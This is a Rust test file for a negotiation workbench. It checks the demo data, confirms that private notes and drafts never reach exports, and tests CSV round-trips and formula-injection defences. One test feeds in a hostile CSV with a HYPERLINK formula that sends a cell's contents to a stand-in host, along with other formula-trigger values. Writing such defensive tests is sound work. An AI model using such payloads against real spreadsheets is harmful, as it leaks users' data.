//! The demo negotiation as a newcomer meets it, and what leaves the workbench: exports carry tabled
//! texts only, never a private note or an untabled draft.

mod common;

use common::{assert_inert, store};
use trilogue_core::compare::{Reference, compare};
use trilogue_core::model::{ClauseStatus, Priority, Track};
use trilogue_core::store::NewVersion;
use trilogue_core::words::{Lang, Words};
use trilogue_core::{Who, agreement, convergence, demo, export, import, packet, report};

#[tokio::test]
async fn the_demo_is_a_living_negotiation() {
    let (store, _dir) = store().await;
    let n = demo::load_demo(&store, common::now()).await.unwrap();
    assert_eq!(demo::load_demo(&store, common::now()).await.unwrap().id, n.id, "loading twice finds the first");
    let parties = store.parties(n.id).await.unwrap();
    assert_eq!(parties.iter().map(|p| p.label.as_str()).collect::<Vec<_>>(), ["FTU", "NEA", "MLSP"]);
    assert_eq!(store.negotiation(n.id).await.unwrap().owner_party_id, Some(parties[0].id));
    assert!(store.delegates(n.id).await.unwrap().len() >= 6);
    let clauses = store.list_clauses(n.id).await.unwrap();
    assert_eq!(clauses.len(), 14);
    let status = |r: &str| clauses.iter().find(|c| c.clause.reference == r).unwrap().clause.status;
    assert_eq!(status("Art. 1"), ClauseStatus::TentativelyAgreed);
    assert_eq!(status("Art. 8"), ClauseStatus::Impasse);
    assert_eq!(status("Art. 5"), ClauseStatus::Open, "the Ministry's amendment voided the initials");
    let counts = store.status_counts(n.id).await.unwrap();
    assert!(counts.contains(&(ClauseStatus::TentativelyAgreed, 5)), "{counts:?}");
    let sessions = store.sessions(n.id).await.unwrap();
    assert_eq!(sessions.iter().filter(|s| !s.minutes.is_empty()).count(), 3);
    assert_eq!(sessions.len(), 4, "and the next one scheduled");
    assert!(store.verify_journal(n.id).await.unwrap().is_none());

    let art5 = store.find_clause(Some(n.id), "art. 5").await.unwrap();
    let initials = store.initials(art5.id).await.unwrap();
    assert_eq!(initials.len(), 2);
    assert!(initials.iter().all(|i| i.voided_at.is_some()));
    let art7 = store.find_clause(Some(n.id), "Art. 7").await.unwrap();
    assert!(store.versions(art7.id).await.unwrap().iter().any(|v| !v.is_tabled()), "our private draft");
    assert_eq!(store.notes(art7.id).await.unwrap()[0].priority, Priority::MustHave);
    assert!(store.clause_standards(art7.id).await.unwrap().contains(&"ILO C158 Art. 13".to_string()));
    let library = store.library().await.unwrap();
    assert!(library.len() >= 20);
    assert!(library.iter().all(|l| !l.standards.is_empty()), "every model clause rests on a standard");
}

#[tokio::test]
async fn no_private_note_or_draft_leaves_the_workbench() {
    const CANARY: &str = "CANARY-7f3a-caucus-only";
    let (store, _dir) = store().await;
    let n = demo::load_demo(&store, common::now()).await.unwrap();
    let who = Who::at("FTU expert", common::now());
    let parties = store.parties(n.id).await.unwrap();
    for row in store.list_clauses(n.id).await.unwrap() {
        let c = row.clause;
        store
            .add_note(c.id, Priority::MustHave, &format!("{CANARY} red line"), &format!("{CANARY} reasoning"), &who)
            .await
            .unwrap();
        for track in [Track::Party(parties[0].id), Track::Joint] {
            let draft = NewVersion {
                track,
                text: format!("{CANARY} draft of {}", c.reference),
                rationale: CANARY.into(),
                tabled: false,
                session_id: None,
                received: None,
                sent_by: None,
                letter_ref: CANARY.into(),
                translations: vec![],
            };
            store.propose(c.id, &draft, &who).await.unwrap();
        }
    }
    let mut outputs = vec![
        ("markdown", export::agreement_markdown(&store, n.id).await.unwrap()),
        ("html", export::agreement_html(&store, n.id).await.unwrap()),
        ("csv", export::position_table_csv(&store, n.id).await.unwrap()),
    ];
    let sessions = store.sessions(n.id).await.unwrap();
    let references =
        [Reference::Joint, Reference::Base, Reference::Party(parties[1].id), Reference::Since(sessions[1].id)];
    for reference in references {
        let d = agreement::document(&store, n.id, reference).await.unwrap();
        outputs.push(("four-column html", d.to_html()));
        outputs.push(("four-column csv", d.to_csv().unwrap()));
        outputs.push(("four-column json", serde_json::to_string(&d).unwrap()));
    }
    let o = agreement::outline(&store, n.id, common::now()).await.unwrap();
    let ids: Vec<i64> = o.rows.iter().map(|r| r.clause_id).collect();
    outputs.push((
        "four-column rows",
        serde_json::to_string(&agreement::rows(&store, n.id, Reference::Joint, &ids).await.unwrap()).unwrap(),
    ));
    outputs.push((
        "distances",
        serde_json::to_string(&convergence::distances(&store, n.id, 100, common::now()).await.unwrap()).unwrap(),
    ));
    for row in store.list_clauses(n.id).await.unwrap() {
        for reference in references {
            let c = compare(&store, row.clause.id, reference, common::now()).await.unwrap();
            outputs.push(("compare html", c.to_html()));
            outputs.push(("compare text", c.to_text()));
            outputs.push(("compare json", serde_json::to_string(&c).unwrap()));
        }
    }
    let report = report::status_report(&store, n.id, 1000, common::now(), &Words::new(Lang::En)).await.unwrap();
    outputs.push(("status report md", report.to_markdown()));
    outputs.push(("status report html", report.to_html()));
    outputs.push(("status report json", serde_json::to_string(&report).unwrap()));
    let settlement = report::final_agreement(&store, n.id).await.unwrap();
    outputs.push(("final agreement md", settlement.to_markdown()));
    outputs.push(("final agreement html", settlement.to_html()));
    outputs.push(("final agreement json", serde_json::to_string(&settlement).unwrap()));
    let initials = report::initials_table(&store, n.id).await.unwrap();
    outputs.push(("initials json", serde_json::to_string(&initials).unwrap()));
    for s in &sessions {
        let p = packet::packet(&store, n.id, Some(s.id), common::now()).await.unwrap();
        outputs.push(("packet md", p.to_markdown()));
        outputs.push(("packet html", p.to_html()));
        outputs.push(("packet json", serde_json::to_string(&p).unwrap()));
        outputs.push(("session tabled", serde_json::to_string(&store.tabled_in(s.id).await.unwrap()).unwrap()));
    }
    for (what, text) in &outputs {
        assert!(!text.contains(CANARY), "{what} leaks a private text");
        assert!(!text.contains("CAUCUS ONLY"), "{what} leaks the demo's own draft");
    }
    assert_inert(&outputs[1].1, "agreement html");
}

#[tokio::test]
async fn the_exports_hold_the_tabled_joint_texts_in_order() {
    let (store, _dir) = store().await;
    let n = demo::load_demo(&store, common::now()).await.unwrap();
    let md = export::agreement_markdown(&store, n.id).await.unwrap();
    let positions: Vec<usize> =
        (1..=14).map(|i| md.find(&format!("## Art. {i} —")).unwrap_or_else(|| panic!("Art. {i} in {md}"))).collect();
    assert!(positions.windows(2).all(|w| w[0] < w[1]), "clauses in order");
    assert!(md.contains("*Status: tentatively agreed*"));
    assert!(md.contains("lasts up to **nine months**"), "the joint text of Art. 7");
    assert!(md.contains("*No joint text yet.*"), "Art. 4 has none");
    let html = export::agreement_html(&store, n.id).await.unwrap();
    assert!(html.contains("<strong>nine months</strong>"), "Markdown rendered");
    assert!(html.contains("@media print"));
}

#[tokio::test]
async fn a_position_table_survives_export_and_import_cell_for_cell() {
    let (store, _dir) = store().await;
    let n = demo::load_demo(&store, common::now()).await.unwrap();
    let who = Who::at("tester", common::now());
    let first = export::position_table_csv(&store, n.id).await.unwrap();
    let table = import::parse_position_table(first.as_bytes(), "demo.csv").unwrap();
    assert_eq!(table.parties, ["FTU", "NEA", "MLSP"]);
    let again = store.import_table(&table, "Demo, imported", "demo.csv", &who).await.unwrap();
    let second = export::position_table_csv(&store, again.id).await.unwrap();
    assert_eq!(first, second);
}

/// Every cell of a CSV export, as a spreadsheet reads it (the byte-order mark off).
fn cells(csv: &str) -> Vec<String> {
    let mut reader =
        ::csv::ReaderBuilder::new().has_headers(false).from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
}

#[tokio::test]
async fn no_exported_cell_begins_a_formula_and_the_table_still_imports_back() {
    let (store, _dir) = store().await;
    let who = Who::at("tester", common::now());
    let hostile = "ref,title,=FTU,NEA,joint\r\n\
        \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",+title,@SUM(1),-2+3,'=quoted\r\n\
        Art. 2,\"\tTabbed\",\"- a list\n- of two\",'plain,''=twice\r\n";
    let table = import::parse_position_table(hostile.as_bytes(), "hostile.csv").unwrap();
    let n = store.import_table(&table, "Formulas", "hostile.csv", &who).await.unwrap();
    let first = export::position_table_csv(&store, n.id).await.unwrap();
    let triggers = ['=', '+', '-', '@', '\t', '\r'];
    for cell in cells(&first) {
        assert!(!cell.starts_with(triggers), "a spreadsheet would run {cell:?}");
    }
    let d = agreement::document(&store, n.id, Reference::Joint).await.unwrap();
    for cell in cells(&d.to_csv().unwrap()) {
        assert!(!cell.starts_with(triggers), "a spreadsheet would run {cell:?}");
    }
    // and back again, cell for cell: the texts the record keeps are the ones the file held
    let again = import::parse_position_table(first.as_bytes(), "again.csv").unwrap();
    assert_eq!(again.parties, ["=FTU", "NEA"]);
    let n2 = store.import_table(&again, "Formulas again", "again.csv", &who).await.unwrap();
    assert_eq!(export::position_table_csv(&store, n2.id).await.unwrap(), first);
    let c = &store.list_clauses(n2.id).await.unwrap()[0].clause;
    assert_eq!(c.reference, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    assert_eq!(c.title, "+title");
    let texts: Vec<String> = store.versions(c.id).await.unwrap().into_iter().map(|v| v.text).collect();
    // `'=quoted` is how a spreadsheet writes text that begins with `=`: the record keeps the text
    assert!(texts.contains(&"@SUM(1)".to_string()) && texts.contains(&"=quoted".to_string()), "{texts:?}");
}
